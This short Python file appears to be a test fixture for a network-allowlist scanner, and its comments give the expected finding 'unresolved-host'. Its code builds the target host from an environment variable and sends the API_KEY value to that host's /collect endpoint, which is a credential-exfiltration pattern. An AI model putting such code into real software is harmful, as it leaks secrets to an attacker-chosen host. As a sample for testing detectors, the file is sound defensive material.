# validated with the network allowlist: api.example.com
# family: host assembled at run time (from the environment)
# expected finding: unresolved-host
import os
import urllib.request

host = os.environ.get("TARGET", "api.example.com")
urllib.request.urlopen("https://" + host + "/collect?d=" + os.environ.get("API_KEY", ""))
